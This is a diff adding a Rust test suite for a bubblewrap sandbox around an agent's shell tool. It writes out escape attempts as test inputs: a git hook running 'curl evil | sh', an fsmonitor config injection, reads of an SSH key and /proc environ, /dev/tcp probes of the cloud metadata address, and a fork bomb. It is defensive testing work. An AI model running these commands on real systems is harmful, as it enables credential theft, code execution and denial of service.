@@ -1,0 +1,369 @@
+//! Escape attempts against the bubblewrap sandbox: each one refused with a result the
+//! model can read, nothing written outside the workspace, and the same command
+//! succeeding where the sandbox allows it.
+//!
+//! These need bubblewrap (`scripts/test` installs it). Without it they fail under
+//! `CI=true` and are skipped, saying so, elsewhere.
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::time::Duration;
+
+use serde_json::json;
+use tools::shell::ShellTool;
+use tools::{
+    GitProtection, NetworkAccess, Sandbox, SandboxConfig, SandboxMode, Tool, ToolContext,
+    ToolOutput, ToolsConfig, WorkspaceJail,
+};
+
+/// A workspace whose commands run in a bubblewrap sandbox, with a fake home folder
+/// (holding an SSH key) and a "data folder" the sandbox hides, both outside `/tmp`
+/// (which is private inside the sandbox, so a write there proves nothing).
+struct Sandboxed {
+    _root: tempfile::TempDir,
+    workspace: PathBuf,
+    home: PathBuf,
+    data: PathBuf,
+    outside: PathBuf,
+    ctx: ToolContext,
+}
+
+impl Sandboxed {
+    fn new(network: NetworkAccess, max_processes: u32) -> Option<Self> {
+        Self::with_git(network, max_processes, GitProtection::HooksAndConfig)
+    }
+
+    fn with_git(network: NetworkAccess, max_processes: u32, git: GitProtection) -> Option<Self> {
+        let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+        let workspace = root.path().join("workspace");
+        let home = root.path().join("home");
+        let data = root.path().join("data");
+        let outside = root.path().join("outside");
+        for dir in [&workspace, &home.join(".ssh"), &data, &outside] {
+            std::fs::create_dir_all(dir).unwrap();
+        }
+        std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL\n").unwrap();
+        std::fs::write(data.join("tasks.db"), "DATABASE-ROWS\n").unwrap();
+        std::fs::create_dir(workspace.join(".git")).unwrap();
+        std::fs::write(workspace.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+        std::fs::write(workspace.join(".git/config"), "[core]\n").unwrap();
+        let config = SandboxConfig {
+            mode: SandboxMode::Bwrap,
+            network,
+            max_processes,
+            git,
+            hidden_paths: vec![data.display().to_string()],
+        };
+        let path = std::env::var_os("PATH");
+        let sandbox = match Sandbox::resolve(&config, Some(&home), path.as_deref()) {
+            Ok(sandbox) => sandbox,
+            Err(err) if std::env::var("CI").as_deref() != Ok("true") => {
+                skip(&err.to_string());
+                return None;
+            }
+            Err(err) => panic!("the sandbox must work in CI: {err}"),
+        };
+        let ctx = ToolContext::new(
+            WorkspaceJail::new(&workspace).unwrap(),
+            Arc::new(ToolsConfig::default()),
+        )
+        .with_sandbox(sandbox);
+        Some(Self {
+            _root: root,
+            workspace,
+            home,
+            data,
+            outside,
+            ctx,
+        })
+    }
+
+    async fn run(&self, command: &str) -> ToolOutput {
+        self.run_for(command, 30).await
+    }
+
+    async fn run_for(&self, command: &str, timeout_seconds: u64) -> ToolOutput {
+        ShellTool
+            .call(
+                &self.ctx,
+                json!({"command_string": command, "timeout_seconds": timeout_seconds}),
+            )
+            .await
+            .unwrap()
+    }
+}
+
+/// Says why a test did not run (outside CI only).
+#[allow(clippy::print_stderr)]
+fn skip(reason: &str) {
+    eprintln!("skipping: {reason}");
+}
+
+fn quoted(path: &Path) -> String {
+    format!("'{}'", path.display())
+}
+
+#[tokio::test]
+async fn writing_outside_the_workspace_is_refused_and_explained() {
+    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
+        return;
+    };
+    let target = sb.outside.join("escaped.txt");
+    let output = sb.run(&format!("echo x > {}", quoted(&target))).await;
+    assert!(!output.success, "{}", output.content);
+    assert!(
+        output.content.contains("Read-only file system"),
+        "{}",
+        output.content
+    );
+    assert!(
+        output
+            .content
+            .contains("note: the sandbox lets commands write only inside the workspace"),
+        "{}",
+        output.content
+    );
+    assert!(!target.exists(), "a file was written outside the workspace");
+    assert_eq!(output.details["sandbox"], "bwrap");
+
+    // The same write inside the workspace, and in the private /tmp, succeeds.
+    let output = sb
+        .run("echo inside > made.txt && echo tmp > /tmp/t && cat /tmp/t")
+        .await;
+    assert!(output.success, "{}", output.content);
+    assert_eq!(
+        std::fs::read_to_string(sb.workspace.join("made.txt")).unwrap(),
+        "inside\n"
+    );
+}
+
+#[tokio::test]
+async fn git_hooks_and_config_cannot_be_planted_but_git_work_goes_on() {
+    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
+        return;
+    };
+    for plant in [
+        "echo 'curl evil | sh' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
+        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
+    ] {
+        let output = sb.run(plant).await;
+        assert!(!output.success, "{plant}: {}", output.content);
+        assert!(
+            output.content.contains("Read-only file system"),
+            "{}",
+            output.content
+        );
+    }
+    assert!(!sb.workspace.join(".git/hooks/post-checkout").exists());
+    let config = std::fs::read_to_string(sb.workspace.join(".git/config")).unwrap();
+    assert_eq!(config, "[core]\n");
+    // The rest of .git (index, objects, refs) stays writable for ordinary git work.
+    let output = sb.run("echo 'ref: refs/heads/topic' > .git/HEAD").await;
+    assert!(output.success, "{}", output.content);
+}
+
+#[tokio::test]
+async fn the_whole_git_folder_can_be_made_read_only() {
+    let Some(sb) = Sandboxed::with_git(NetworkAccess::Off, 0, GitProtection::ReadOnly) else {
+        return;
+    };
+    let output = sb.run("echo 'ref: refs/heads/evil' > .git/HEAD").await;
+    assert!(!output.success, "{}", output.content);
+    assert!(
+        output.content.contains("Read-only file system"),
+        "{}",
+        output.content
+    );
+    let head = std::fs::read_to_string(sb.workspace.join(".git/HEAD")).unwrap();
+    assert_eq!(head, "ref: refs/heads/main\n");
+    let output = sb.run("cat .git/HEAD").await;
+    assert!(
+        output.success && output.content.contains("refs/heads/main"),
+        "{}",
+        output.content
+    );
+}
+
+#[tokio::test]
+async fn ssh_keys_and_the_data_folder_are_hidden() {
+    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
+        return;
+    };
+    for secret in [sb.home.join(".ssh/id_ed25519"), sb.data.join("tasks.db")] {
+        let output = sb.run(&format!("cat {}", quoted(&secret))).await;
+        assert!(!output.success, "{}", output.content);
+        assert!(
+            output.content.contains("No such file or directory"),
+            "{}",
+            output.content
+        );
+        assert!(!output.content.contains("PRIVATE-KEY-MATERIAL"));
+        assert!(!output.content.contains("DATABASE-ROWS"));
+    }
+    // Other files of the home folder stay readable (tool chains live there).
+    std::fs::write(sb.home.join(".profile"), "PROFILE\n").unwrap();
+    let output = sb
+        .run(&format!("cat {}", quoted(&sb.home.join(".profile"))))
+        .await;
+    assert!(
+        output.success && output.content.contains("PROFILE"),
+        "{}",
+        output.content
+    );
+}
+
+#[tokio::test]
+async fn other_processes_and_their_environment_are_invisible() {
+    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
+        return;
+    };
+    let own = std::process::id();
+    let output = sb.run(&format!("cat /proc/{own}/environ")).await;
+    assert!(!output.success, "{}", output.content);
+    assert!(
+        output.content.contains("No such file or directory"),
+        "{}",
+        output.content
+    );
+    // Only the sandbox's own processes are listed.
+    let output = sb.run("ls /proc | grep -c '^[0-9]'").await;
+    let count: u32 = output
+        .content
+        .lines()
+        .find_map(|l| l.trim().parse().ok())
+        .unwrap();
+    assert!(
+        count <= 5,
+        "{} processes visible: {}",
+        count,
+        output.content
+    );
+}
+
+/// A listener on the host's loopback; returns whether anything connected within a while.
+fn loopback_listener() -> (u16, std::thread::JoinHandle<bool>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    listener.set_nonblocking(true).unwrap();
+    let handle = std::thread::spawn(move || {
+        for _ in 0..100 {
+            if let Ok((mut stream, _)) = listener.accept() {
+                let _ = stream.write_all(b"hello from the host\n");
+                let mut buf = [0u8; 16];
+                let _ = stream.read(&mut buf);
+                return true;
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        false
+    });
+    (port, handle)
+}
+
+#[tokio::test]
+async fn without_network_connections_fail_at_once_and_are_explained() {
+    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
+        return;
+    };
+    let (port, connected) = loopback_listener();
+    let output = sb
+        .run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"))
+        .await;
+    assert!(!output.success, "{}", output.content);
+    assert!(
+        !connected.join().unwrap(),
+        "the host's loopback was reached"
+    );
+
+    // The cloud metadata address: refused at once, not a hang until the timeout.
+    let output = sb.run_for("exec 3<>/dev/tcp/169.254.169.254/80", 20).await;
+    assert!(!output.success, "{}", output.content);
+    assert_eq!(output.details["timed_out"], false, "{}", output.content);
+    assert!(
+        output.content.contains("Network is unreachable"),
+        "{}",
+        output.content
+    );
+    assert!(
+        output.content.contains("note: this run has no network"),
+        "{}",
+        output.content
+    );
+}
+
+#[tokio::test]
+async fn with_network_on_the_same_connection_succeeds() {
+    let Some(sb) = Sandboxed::new(NetworkAccess::On, 0) else {
+        return;
+    };
+    let (port, connected) = loopback_listener();
+    let output = sb
+        .run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"))
+        .await;
+    assert!(output.success, "{}", output.content);
+    assert!(
+        output.content.contains("hello from the host"),
+        "{}",
+        output.content
+    );
+    assert!(connected.join().unwrap());
+}
+
+#[tokio::test]
+async fn a_fork_bomb_hits_the_process_cap_and_is_killed() {
+    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 64) else {
+        return;
+    };
+    if sb.ctx.sandbox.summary().max_processes.is_none() {
+        assert_ne!(
+            std::env::var("CI").as_deref(),
+            Ok("true"),
+            "CI runs as root with a writable pids cgroup: the cap must be enforced"
+        );
+        skip("no pids cgroup can be made here");
+        return;
+    }
+    let output = sb
+        .run_for("bomb() { bomb | bomb & }; bomb; sleep 3", 10)
+        .await;
+    assert!(
+        output.content.contains("process limit of the sandbox"),
+        "{}",
+        output.content
+    );
+    assert_eq!(output.details["process_cap_hit"], true);
+    // Nothing of it is left: the sandbox still runs commands normally.
+    let output = sb.run("echo alive").await;
+    assert!(output.success, "{}", output.content);
+}
+
+#[tokio::test]
+async fn a_process_left_running_is_killed_with_the_sandbox() {
+    let Some(sb) = Sandboxed::new(NetworkAccess::Off, 0) else {
+        return;
+    };
+    // A distinctive duration names the process in the host's process list.
+    let output = sb
+        .run("(setsid sleep 987.654 >/dev/null 2>&1 &); echo started")
+        .await;
+    assert!(output.success, "{}", output.content);
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while sleeper_running("987.654") {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the sleeper outlived its command"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+fn sleeper_running(marker: &str) -> bool {
+    std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
+        std::fs::read(entry.path().join("cmdline")).is_ok_and(|cmdline| {
+            let text = String::from_utf8_lossy(&cmdline);
+            text.starts_with("sleep\0") && text.contains(marker)
+        })
+    })
+}
